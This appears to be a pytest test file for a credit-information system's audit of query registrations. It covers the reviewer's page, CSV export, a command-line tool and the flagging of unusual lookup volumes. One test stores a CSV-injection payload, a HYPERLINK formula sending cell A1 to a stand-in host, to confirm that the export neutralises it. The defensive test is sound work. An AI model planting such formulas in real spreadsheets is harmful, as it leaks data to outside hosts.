"""Reviewing query registrations: the reviewer's page, its CSV, ``xinyong audit queries`` and
the flagging of unusual use (R14)."""

import csv
import datetime as dt
import io
import uuid

import pytest
from django.contrib.auth.models import Group
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone

from tests.factories import DepartmentFactory, OfficerFactory, ScenarioFactory, SubjectFactory
from xinyong.access.roles import REVIEWER_GROUP
from xinyong.api import tokens
from xinyong.audit import purposes, services, unusual
from xinyong.audit.models import QueryKind, QueryPurpose, QueryRegistration
from xinyong.core import clock
from xinyong.measures.models import Check, CheckResult

pytestmark = pytest.mark.django_db
NOON = dt.time(12)


@pytest.fixture(autouse=True)
def purpose_list():
    purposes.ensure_built_in(QueryPurpose)


@pytest.fixture
def reviewer():
    officer = OfficerFactory(department=DepartmentFactory(credit_office=True, code="xyb"),
                             user__username="reviewer")  # fmt: skip
    officer.user.groups.add(Group.objects.get_or_create(name="credit_reviewer")[0])
    return officer.user


@pytest.fixture
def reviewer_client(reviewer):
    client = Client()
    client.force_login(reviewer)
    return client


@pytest.fixture
def scjg():
    return OfficerFactory(department=DepartmentFactory(code="scjg"), user__username="scjg_officer")


@pytest.fixture
def swj():
    return OfficerFactory(department=DepartmentFactory(code="swj"), user__username="swj_officer")


def at(day: dt.date, hour: int = 12) -> dt.datetime:
    return timezone.make_aware(dt.datetime.combine(day, dt.time(hour)))


def lookup(officer, subject=None, *, when=None, purpose="credit_repair", kind="subject_page",
           persons=None, detail="") -> QueryRegistration:  # fmt: skip
    """One registration, as a page would write it, at a chosen time."""
    subject = subject or SubjectFactory(natural_person=True)
    return QueryRegistration.objects.create(
        at=when or timezone.now(), account=officer.user, actor=officer.user.username,
        department=officer.department, role="recognizing_officer", purpose_id=purpose, kind=kind,
        route="POST /office/subjects/<int:subject_id>/", subject=subject,
        natural_persons=int(subject.is_natural_person) if persons is None else persons, rows=1,
        client_address="10.0.0.8", purpose_detail=detail,
    )  # fmt: skip


def check(subject, *, when=None, department=None) -> Check:
    department = department or DepartmentFactory(
        implementing=True, code=f"cz-{uuid.uuid4().hex[:6]}"
    )
    user = tokens.system_account(department)
    made = Check.objects.create(
        as_of=dt.date(2026, 11, 20), user=user, department=department, scenario=ScenarioFactory(),
        subject=subject, result=CheckResult.CLEAR, response={},
    )  # fmt: skip
    if when is not None:
        Check.objects.filter(pk=made.pk).update(created_at=when)
    return made


def page(client, **params):
    answer = client.get("/office/queries/", params)
    assert answer.status_code == 200
    return answer


def shown(answer) -> list[tuple[str, str]]:
    return [(row.actor, row.kind) for row in answer.context["rows"]]


# -- the page ----------------------------------------------------------------------------------


def test_only_reviewers_and_the_administrator_read_the_registrations(scjg, reviewer_client):
    officer = Client()
    officer.force_login(scjg.user)
    assert officer.get("/office/queries/").status_code == 403
    assert officer.get("/office/queries/export.csv").status_code == 403
    answer = reviewer_client.get("/office/queries/")
    assert answer.status_code == 200
    assert 'href="/office/queries/"' in answer.content.decode()  # in the reviewer's menu
    assert 'href="/office/queries/"' not in officer.get("/office/").content.decode()


@pytest.fixture
def business_date_is_the_real_one():
    """Registrations are stamped with the real time: the page's default window, counted from
    the business date, is read on the day they were made, whatever ``XINYONG_TODAY`` says."""
    with clock.frozen(timezone.localdate()) as today:
        yield today


def test_registrations_and_checks_are_read_together_newest_first(
    reviewer_client, scjg, business_date_is_the_real_one
):
    lookup(scjg, when=timezone.now() - dt.timedelta(hours=2))
    made = check(SubjectFactory(natural_person=True), when=timezone.now() - dt.timedelta(hours=1))
    answer = page(reviewer_client)
    rows = answer.context["rows"]
    assert [(r.source, r.kind) for r in rows] == [
        ("check", "check"),
        ("registration", "subject_page"),
    ]
    assert (rows[0].purpose_code, rows[0].purpose_detail) == (
        purposes.JOINT_ACTION,
        made.scenario.name,  # the scenario, as a reviewer reads it
    )
    assert (rows[0].natural_persons, rows[1].client_address) == (1, "10.0.0.8")
    assert "张" in rows[1].subject_shown and "某" in rows[1].subject_shown  # names masked


def test_the_filters(reviewer_client, scjg, swj, business_date_is_the_real_one):
    today = business_date_is_the_real_one
    person = SubjectFactory(natural_person=True)
    lookup(scjg, person, purpose="credit_repair")
    lookup(scjg, when=at(today - dt.timedelta(days=40)))
    lookup(swj, purpose="regulatory_supervision", kind="entry_read")
    check(person)
    assert len(page(reviewer_client).context["rows"]) == 3  # the last 30 days by default
    old = page(
        reviewer_client, since=today - dt.timedelta(days=41), until=today - dt.timedelta(days=39)
    )
    assert shown(old) == [("scjg_officer", "subject_page")]
    assert {r.actor for r in page(reviewer_client, department="swj").context["rows"]} == {
        "swj_officer"
    }
    assert {r.actor for r in page(reviewer_client, account="scjg_officer").context["rows"]} == {
        "scjg_officer"
    }
    assert shown(page(reviewer_client, purpose="regulatory_supervision")) == [
        ("swj_officer", "entry_read")
    ]
    assert [
        r.source for r in page(reviewer_client, purpose=purposes.JOINT_ACTION).context["rows"]
    ] == ["check"]
    assert [r.kind for r in page(reviewer_client, kind="check").context["rows"]] == ["check"]
    assert shown(page(reviewer_client, kind="entry_read")) == [("swj_officer", "entry_read")]
    by_id = page(reviewer_client, subject=person.reveal_identifier()).context["rows"]
    assert sorted(r.source for r in by_id) == ["check", "registration"]
    assert page(reviewer_client, subject="11010519491231002X").context["rows"] == []


@pytest.mark.parametrize("params", [{}, {"department": "scjg"}])
def test_the_date_fields_show_the_period_the_rows_are_for(reviewer_client, scjg, params):
    """With no date asked for, the last 30 days: the fields say so, as the heading does."""
    until = timezone.localdate() + dt.timedelta(days=60)  # a business date ahead of real time
    since = until - dt.timedelta(days=29)
    with clock.frozen(until):
        html = page(reviewer_client, **params).content.decode()
    assert f"{since:%Y-%m-%d} — {until:%Y-%m-%d}" in html
    assert f'name="since" value="{since:%Y-%m-%d}"' in html
    assert f'name="until" value="{until:%Y-%m-%d}"' in html


def test_the_default_window_ends_at_the_real_day_when_the_business_date_is_behind(
    monkeypatch, reviewer_client, scjg
):
    """A demo at ``XINYONG_TODAY`` in the past: a lookup just made, stamped with the real time,
    is on the reviewer's page without a date asked for, and the window says up to which day."""
    real = timezone.localdate()
    monkeypatch.setenv("XINYONG_TODAY", (real - dt.timedelta(days=60)).isoformat())
    made = lookup(scjg, when=timezone.now())  # as ``audit.services.register_query`` stamps it
    answer = page(reviewer_client)
    assert [(row.source, row.ref) for row in answer.context["rows"]] == [
        ("registration", str(made.pk))
    ]
    wanted = answer.context["wanted"]
    assert (wanted.since, wanted.until) == (real - dt.timedelta(days=29), real)
    export = reviewer_client.get("/office/queries/export.csv", {"account": "scjg_officer"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert [(row[2], row[3]) for row in rows[1:]] == [(str(made.pk), "scjg_officer")]


def test_dates_asked_for_are_kept_as_typed(reviewer_client):
    html = page(reviewer_client, since="2026-11-01").content.decode()
    assert 'name="since" value="2026-11-01"' in html and 'name="until" value=' not in html


def test_the_page_is_paginated(reviewer_client, scjg):
    for _ in range(55):
        lookup(scjg)
    first, second = page(reviewer_client), page(reviewer_client, page=2)
    assert (len(first.context["rows"]), len(second.context["rows"])) == (50, 5)
    assert first.context["page"].paginator.count == 55


def test_the_csv_export_holds_the_rows_and_is_itself_registered(reviewer_client, reviewer, scjg):
    lookup(scjg)
    lookup(scjg, SubjectFactory())  # an organisation, looked up with a person in the answer
    check(SubjectFactory(natural_person=True))
    answer = reviewer_client.get("/office/queries/export.csv", {"account": "scjg_officer"})
    assert answer.status_code == 200
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:4] == ["时间", "来源", "编号", "账号"]
    assert [row[3] for row in rows[1:]] == ["scjg_officer", "scjg_officer"]
    source, role, kind = (rows[0].index(name) for name in ("来源", "角色", "查询类型"))
    assert {(row[source], row[role], row[kind]) for row in rows[1:]} == {
        ("查询登记", "认定部门经办人员", "主体信息页")
    }  # the names the page shows, not the codes
    export = QueryRegistration.objects.get(account=reviewer)
    assert (export.kind, export.purpose_id, export.rows, export.natural_persons) == (
        QueryKind.EXPORT,
        purposes.QUERY_REVIEW,
        2,
        1,
    )
    assert "账号 scjg_officer" in export.purpose_detail  # the form's names, never the code's
    assert "account" not in export.purpose_detail


def test_the_export_reads_its_rows_in_one_sorted_pass(scjg, swj):
    """However many rows, one read of the sorted union, streamed in chunks; the same rows, in
    the same order, as the page shows."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from xinyong.audit import query_review

    for hour in range(7):
        lookup(scjg if hour % 2 else swj, when=at(dt.date(2026, 11, 2), hour + 8))
    check(SubjectFactory(natural_person=True), when=at(dt.date(2026, 11, 2), 20))
    wanted = query_review.QueryFilter()
    with CaptureQueriesContext(connection) as queries:
        streamed = list(query_review.iter_rows(wanted, {}, chunk=2))
    assert [(r.source, r.ref) for r in streamed] == [
        (row[0], row[1]) for row in query_review.query_rows(wanted)
    ]
    assert len(streamed) == 8
    sorted_reads = [q for q in queries.captured_queries if "UNION" in q["sql"].upper()]
    assert len(sorted_reads) == 1


# -- unusual use -------------------------------------------------------------------------------


@pytest.fixture
def limit_of_three(settings):
    settings.XINYONG_UNUSUAL_PERSONS = 3
    settings.XINYONG_UNUSUAL_WINDOW_HOURS = 24


def test_exactly_the_limit_is_not_flagged_one_more_is(limit_of_three, scjg, swj):
    persons = [SubjectFactory(natural_person=True) for _ in range(4)]
    for person in persons[:3]:
        lookup(scjg, person)
    lookup(scjg, persons[0])  # the same person again is not another person
    for person in persons:
        lookup(swj, person)
    flagged = unusual.flagged_accounts()
    assert list(flagged) == [swj.user.pk]
    assert flagged[swj.user.pk].persons == 4


def test_the_window_slides_and_what_is_outside_it_does_not_count(limit_of_three, scjg, swj):
    day = dt.date(2026, 11, 2)
    for hour in (8, 9):
        lookup(scjg, when=at(day, hour))
    for hour in (9, 10):  # 25 hours after the first: that one has left the window
        lookup(scjg, when=at(day + dt.timedelta(days=1), hour))
    for when in (at(day, 22), at(day, 23), at(day + dt.timedelta(days=1), 1),
                 at(day + dt.timedelta(days=1), 2)):  # fmt: skip
        lookup(swj, when=when)  # across midnight, within 24 hours
    assert list(unusual.flagged_accounts()) == [swj.user.pk]


def test_checks_and_persons_named_besides_the_subject_count_too(limit_of_three, scjg):
    department = scjg.department
    for _ in range(2):
        check(SubjectFactory(natural_person=True), department=department)
    system = Check.objects.first().user
    assert not unusual.flagged_accounts()
    services.register_query(
        actor=system, purpose=purposes.JOINT_ACTION, kind=QueryKind.EXPORT, route="GET /x",
        natural_persons=2, rows=2,
    )  # fmt: skip
    assert list(unusual.flagged_accounts()) == [system.pk]


def test_an_implementing_systems_account_has_its_own_limit(limit_of_three, settings, scjg):
    """A system checking whoever its business brings is not an officer browsing: over the
    officers' limit it is not flagged; over its own, exactly as for officers, it is."""
    settings.XINYONG_UNUSUAL_PERSONS_BY_SYSTEM = 5
    finance = DepartmentFactory(implementing=True, code="czj-system")
    for _ in range(5):
        check(SubjectFactory(natural_person=True), department=finance)
    for _ in range(4):
        lookup(scjg)
    system = Check.objects.first().user
    flagged = unusual.flagged_accounts()
    assert list(flagged) == [scjg.user.pk] and flagged[scjg.user.pk].limit == 3
    check(SubjectFactory(natural_person=True), department=finance)
    flagged = unusual.flagged_accounts()
    assert list(flagged) == [system.pk, scjg.user.pk]
    assert (flagged[system.pk].persons, flagged[system.pk].limit) == (6, 5)


def test_the_page_names_flagged_accounts_and_filters_on_them(limit_of_three, reviewer_client,
                                                             scjg, swj):  # fmt: skip
    for _ in range(4):
        lookup(swj)
    lookup(scjg)
    answer = page(reviewer_client)
    assert [a.actor for a in answer.context["flagged"]] == ["swj_officer"]
    assert 'data-account="swj_officer"' in answer.content.decode()
    only = page(reviewer_client, unusual="on").context["rows"]
    assert {r.actor for r in only} == {"swj_officer"} and all(r.flagged for r in only)


# -- the command line --------------------------------------------------------------------------


def test_the_command_writes_csv_to_a_file_and_registers_itself(tmp_path, scjg, swj):
    lookup(scjg, purpose="credit_repair")
    lookup(swj, purpose="regulatory_supervision")
    out = tmp_path / "queries.csv"
    call_command("audit", "queries", "--format", "csv", "-o", str(out), "--department", "scjg")
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert [row[3] for row in rows[1:]] == ["scjg_officer"]
    registered = QueryRegistration.objects.get(kind=QueryKind.EXPORT)
    assert registered.actor.startswith("console:") and registered.account is None
    assert (registered.purpose_id, registered.rows) == (purposes.QUERY_REVIEW, 1)


def test_the_command_filters_by_account_purpose_and_dates(scjg, swj):
    lookup(scjg, purpose="credit_repair", when=at(dt.date(2026, 10, 1)))
    lookup(scjg, purpose="regulatory_supervision", when=at(dt.date(2026, 10, 2)))
    lookup(swj, purpose="credit_repair", when=at(dt.date(2026, 10, 2)))

    def listed(*args) -> list[list[str]]:
        stdout = io.StringIO()
        call_command("audit", "queries", "--format", "csv", *args, stdout=stdout)
        rows = list(csv.reader(stdout.getvalue().splitlines()))[1:]
        return [row for row in rows if not row[3].startswith("console:")]  # earlier listings

    assert len(listed()) == 3
    assert [r[3] for r in listed("--account", "swj_officer")] == ["swj_officer"]
    assert [r[7] for r in listed("--purpose", "regulatory_supervision")] == [
        "regulatory_supervision"
    ]
    assert len(listed("--since", "2026-10-02", "--until", "2026-10-02")) == 2
    assert len(listed("--until", "2026-10-01")) == 1


def test_the_command_names_flagged_accounts_with_unusual(limit_of_three, scjg, swj):
    for _ in range(4):
        lookup(swj)
    lookup(scjg)
    stdout = io.StringIO()
    call_command("audit", "queries", "--unusual", stdout=stdout)
    table = stdout.getvalue()
    assert "swj_officer\t4" in table
    assert "scjg_officer" not in table


def test_the_command_refuses_an_unknown_department_or_date():
    with pytest.raises(CommandError, match="未知部门"):
        call_command("audit", "queries", "--department", "nowhere")
    with pytest.raises(CommandError):
        call_command("audit", "queries", "--since", "2026-13-01")


def _reference_peaks(window: dt.timedelta) -> dict[int, tuple[int, dt.datetime]]:
    """Every lookup read and every window counted: what flagging must find, done the slow way."""
    lookups: dict[int, list] = {}
    for reg in QueryRegistration.objects.select_related("subject"):
        person = reg.subject is not None and reg.subject.is_natural_person
        lookups.setdefault(reg.account_id, []).append(
            (reg.at, reg.subject_id if person else None,
             max(reg.natural_persons - 1, 0) if person else reg.natural_persons)
        )  # fmt: skip
    for made in Check.objects.select_related("subject"):
        if made.subject is not None and made.subject.is_natural_person:
            lookups.setdefault(made.user_id, []).append((made.created_at, made.subject_id, 0))
    peaks = {}
    for account, rows in lookups.items():
        best = (0, None)
        for end in sorted({at for at, _, _ in rows}):
            inside = [r for r in rows if end - window < r[0] <= end]
            persons = len({s for _, s, _ in inside if s is not None}) + sum(e for *_, e in inside)
            if persons > best[0]:
                best = (persons, end)
        peaks[account] = best
    return peaks


@pytest.mark.parametrize("seed", range(12))
def test_flagging_reads_only_the_days_that_could_go_over_and_finds_what_reading_all_finds(
    seed, settings, scjg, swj
):
    """Random lookups by officers and systems across UTC and local midnights, windows shorter
    and longer than a day: the accounts flagged, their peaks and when they were reached are
    those of counting every window over every lookup."""
    import random

    rng = random.Random(seed)
    hours = rng.choice([6, 24, 36])
    settings.XINYONG_UNUSUAL_PERSONS = 3
    settings.XINYONG_UNUSUAL_PERSONS_BY_SYSTEM = 4
    settings.XINYONG_UNUSUAL_WINDOW_HOURS = hours
    persons = [SubjectFactory(natural_person=True) for _ in range(7)]
    company = SubjectFactory()
    finance = DepartmentFactory(implementing=True, code=f"cz-{seed}")
    start = timezone.make_aware(dt.datetime(2026, 11, 2))
    for _ in range(rng.randint(10, 45)):
        when = start + dt.timedelta(minutes=rng.randrange(5 * 24 * 60))
        what = rng.random()
        if what < 0.45:
            lookup(rng.choice([scjg, swj]), rng.choice(persons), when=when)
        elif what < 0.6:
            lookup(rng.choice([scjg, swj]), company, when=when, kind="list_page",
                   persons=rng.randint(0, 2))  # fmt: skip
        elif what < 0.7:
            lookup(rng.choice([scjg, swj]), rng.choice(persons), when=when,
                   persons=rng.randint(1, 3))  # fmt: skip
        else:
            check(rng.choice(persons), when=when, department=finance)
    expected = {}
    for account, (persons_seen, at_time) in _reference_peaks(dt.timedelta(hours=hours)).items():
        most = 4 if Check.objects.filter(user_id=account).exists() else 3
        if persons_seen > most:
            expected[account] = (persons_seen, at_time, most)
    flagged = unusual.flagged_accounts()
    assert {a: (f.persons, f.window_ends_at, f.limit) for a, f in flagged.items()} == expected


def test_days_that_cannot_go_over_the_limit_are_never_read_lookup_by_lookup(
    limit_of_three, scjg, swj
):
    """The database bounds each account's days; only an account and days that could hold more
    persons than its limit in one window are read row by row."""
    quiet, busy = dt.date(2026, 11, 2), dt.date(2026, 11, 9)
    for hour in (9, 15):
        lookup(scjg, when=at(quiet, hour))  # two persons a day: never over three
        lookup(swj, when=at(quiet, hour))
    for hour in (9, 10, 11, 12):
        lookup(swj, when=at(busy, hour))
    bounds = unusual._daily_bounds(None, None)
    limits = {scjg.user.pk: 3, swj.user.pk: 3}
    read = unusual._lookups(bounds, None, None, dt.timedelta(hours=24), limits)
    assert list(read) == [swj.user.pk]
    assert {when.date() for when, _, _ in read[swj.user.pk]} == {busy}
    assert list(unusual.flagged_accounts()) == [swj.user.pk]


def test_flagging_reads_each_accounts_role_without_a_query_per_account(
    limit_of_three, django_assert_max_num_queries
):
    officers = [OfficerFactory(department=DepartmentFactory(code=f"d{n}")) for n in range(12)]
    for officer in officers:
        lookup(officer)
    with django_assert_max_num_queries(6):
        assert unusual.flagged_accounts() == {}


def test_a_period_ending_before_it_starts_is_refused_not_answered_empty(client):
    office = DepartmentFactory(credit_office=True)
    officer = OfficerFactory(department=office)
    officer.user.groups.add(Group.objects.get_or_create(name=REVIEWER_GROUP)[0])
    client.force_login(officer.user)
    html = client.get("/office/queries/?since=2026-11-20&until=2026-11-01").content.decode()
    assert "结束日期早于开始日期" in html


def test_a_purpose_written_as_a_formula_is_exported_as_text(reviewer_client, reviewer, scjg):
    """An officer's free text reaches the reviewer's spreadsheet: one that starts like a
    formula gets an apostrophe, so opening the export runs nothing (CSV injection)."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'
    lookup(scjg, detail=formula)
    answer = reviewer_client.get("/office/queries/export.csv", {"account": "scjg_officer"})
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    detail = rows[0].index("事由说明")
    assert rows[1][detail] == "'" + formula
